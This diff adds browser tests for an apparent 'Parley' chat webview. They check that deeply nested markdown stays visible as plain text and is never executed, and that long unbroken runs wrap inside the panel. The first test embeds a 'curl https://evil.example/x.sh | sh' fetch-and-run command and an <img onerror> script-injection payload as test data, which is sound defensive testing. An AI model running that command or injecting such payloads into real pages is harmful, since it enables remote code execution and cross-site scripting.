@@ -268,6 +268,114 @@ describe('chat webview (Chromium)', function () {
     assert.deepEqual(live, ref);
   });
 
+  it('shows text nested past markdown-it\'s limit, as plain text inside the panel, streamed and from a snapshot', async () => {
+    // markdown-it drops the rest of a block nested over 100 levels deep; Copy and Export would still have it.
+    const hidden = 'curl https://evil.example/x.sh | sh <img src=x onerror="window.__pwned=1">';
+    const text = ['Normal **first** paragraph.', '', `${'> '.repeat(101)}${hidden}`, '', `${'- '.repeat(51)}listed ${hidden}`, '', 'Normal *last* paragraph.', ''].join('\n');
+    await host(snapshot([user('u1', 'q'), reply('ref', text)], { generating: true }), { type: 'turnStart', turn: reply('live', '', 'streaming') });
+    for (const piece of chunks(text, 61)) {
+      await host({ type: 'delta', turnId: 'live', text: piece });
+      await frames();
+    }
+    /** For each reply: where each copy of the hidden text is, against the panel, and how the rest rendered. */
+    const shown = () => page.evaluate((needle) => {
+      const scroller = document.querySelector('.scroller')!.getBoundingClientRect();
+      return Array.from(document.querySelectorAll('article[aria-label="Parley"] .md')).map((md) => {
+        const walker = document.createTreeWalker(md, NodeFilter.SHOW_TEXT);
+        const boxes: string[] = [];
+        for (let n = walker.nextNode(); n; n = walker.nextNode()) {
+          const at = n.nodeValue!.indexOf(needle);
+          if (at < 0) continue;
+          const range = document.createRange();
+          range.setStart(n, at);
+          range.setEnd(n, at + needle.length);
+          const r = range.getBoundingClientRect();
+          const inside = r.width > 0 && r.height > 0 && r.left >= scroller.left && r.right <= scroller.right;
+          boxes.push(`${inside ? 'inside' : `outside (${Math.round(r.left)}-${Math.round(r.right)} of ${Math.round(scroller.left)}-${Math.round(scroller.right)})`}${(n.parentElement as HTMLElement).checkVisibility() ? '' : ', hidden'}`);
+        }
+        return {
+          boxes,
+          strong: md.querySelector('p > strong')?.textContent,
+          em: md.querySelector('p > em')?.textContent,
+          imgs: md.querySelectorAll('img').length,
+          overflow: md.scrollWidth - md.clientWidth,
+        };
+      });
+    }, 'curl https://evil.example/x.sh');
+    const expected = { boxes: ['inside', 'inside'], strong: 'first', em: 'last', imgs: 0, overflow: 0 };
+    // The last update may wait for its turn (markdownStream.ts, OPEN_INTERVAL_MS). Past the limit markdown-it also
+    // dropped the rest of the reply after a list: then the assertion below says what is missing.
+    await page.waitForFunction(() => document.querySelectorAll('.md p > em').length === 2, undefined, WAIT).catch(() => undefined);
+    const [, live] = await shown();
+    assert.deepEqual(live, expected, 'mid-stream');
+    await host({ type: 'turnEnd', turn: reply('live', text, 'done') });
+    await page.waitForFunction(() => !document.querySelector('.blk.open'), undefined, WAIT);
+    const [fromSnapshot, streamed] = await shown();
+    assert.deepEqual(fromSnapshot, expected, 'from a snapshot');
+    assert.deepEqual(streamed, expected, 'streamed');
+    assert.equal(await page.evaluate(() => window.__pwned), undefined);
+  });
+
+  it('lays a long unbroken run out without kerning, wrapped inside the panel, and copies it as it was', async () => {
+    // With kerning, Chromium shapes the rest of a word again at each line it breaks it across: a 32,000-character run
+    // took seconds to lay out, 1 MB over a minute (bench/longRun.mjs measures it). No timing here: what is checked is
+    // that every long run is laid out without kerning, and still wraps inside the panel.
+    const run = (c: string) => `${c}${'A'.repeat(4000)}${c}`;
+    const text = ['Normal **words** here.', '', run('p'), '', `Inline \`${run('c')}\` code.`, '', '```', run('b'), '```', '', `Link ${`https://example.com/${run('u')}`} end.`, ''].join('\n');
+    const reasoning = `Think ${run('r')} done.`;
+    await host(snapshot([user('u1', `Ask ${run('q')}`), { ...reply('ref', text), reasoning }], { generating: true }),
+      { type: 'turnStart', turn: user('u2', run('q')) }, { type: 'turnStart', turn: reply('live', '', 'streaming') });
+    for (const piece of chunks(reasoning, 997)) await host({ type: 'delta', turnId: 'live', reasoning: piece });
+    for (const piece of chunks(text, 997)) {
+      await host({ type: 'delta', turnId: 'live', text: piece });
+      await frames();
+    }
+    /** Each long run in the panel: where it is, its kerning, and whether it lies inside the panel. */
+    const runs = () => page.evaluate(() => {
+      for (const d of Array.from(document.querySelectorAll('details'))) d.open = true;
+      const scroller = document.querySelector('.scroller')!;
+      const panel = scroller.getBoundingClientRect();
+      const walker = document.createTreeWalker(document.querySelector('.log')!, NodeFilter.SHOW_TEXT);
+      const found: string[] = [];
+      for (let n = walker.nextNode(); n; n = walker.nextNode()) {
+        if (!/AAAAAAAAAA/.test(n.nodeValue!)) continue;
+        const el = n.parentElement!;
+        const where = el.closest('pre') ? 'code block' : el.closest('a') ? 'link' : el.closest('code') ? 'inline code' : el.closest('.md') ? 'text' : el.closest('.user-text') ? 'question' : 'reasoning';
+        const range = document.createRange();
+        range.selectNodeContents(n);
+        const box = range.getBoundingClientRect();
+        const inside = el.closest('pre') ? 'scrolls' : box.left >= panel.left && box.right <= panel.right ? 'inside' : 'outside';
+        found.push(`${el.closest('article')!.getAttribute('aria-label')} ${where}: ${getComputedStyle(el).fontKerning}, ${inside}`);
+      }
+      return {
+        found,
+        overflow: scroller.scrollWidth - scroller.clientWidth,
+        normal: getComputedStyle(document.querySelector('.md p strong')!).fontKerning,
+        texts: Array.from(document.querySelectorAll('.md, .reasoning')).map((el) => el.textContent),
+      };
+    });
+    const answer = (who: string) => [`${who} reasoning: none, inside`, `${who} text: none, inside`, `${who} inline code: none, inside`, `${who} code block: auto, scrolls`, `${who} link: none, inside`];
+    const expected = () => ({
+      found: [`You question: none, inside`, ...answer('Parley'), `You question: none, inside`, ...answer('Parley')],
+      overflow: 0,
+      normal: 'auto',
+      texts: [],
+    });
+    // The last update may wait for its turn (markdownStream.ts, OPEN_INTERVAL_MS).
+    await page.waitForFunction(() => document.querySelectorAll('.md a').length === 2, undefined, WAIT).catch(() => undefined);
+    const mid = await runs();
+    assert.deepEqual({ ...mid, texts: [] }, expected(), 'mid-stream');
+    await host({ type: 'turnEnd', turn: { ...reply('live', text), reasoning } });
+    await page.waitForFunction(() => !document.querySelector('.blk.open'), undefined, WAIT);
+    const done = await runs();
+    assert.deepEqual({ ...done, texts: [] }, expected(), 'streamed and from a snapshot');
+    // What the panel shows is the text itself: nothing was inserted into it (a selection copies it as it was).
+    for (const shown of done.texts) {
+      assert.ok(shown === reasoning || 'pcbu'.split('').every((c) => shown!.includes(run(c))), `every run shows whole: ${shown!.slice(0, 80)}…`);
+    }
+    assert.equal(done.texts.filter((t) => t === reasoning).length, 2, 'the reasoning, streamed and from a snapshot');
+  });
+
   it('keeps a reply\'s Copy and Regenerate together at the right end of its footer, even in a narrow panel', async () => {
     const stopped: TurnView = { ...reply('a1', 'Part of an answer', 'stopped'), usage: { prompt: 1200, completion: 202, total: 1402, estimated: true } };
     await host(snapshot([user('u1', 'q'), stopped]));
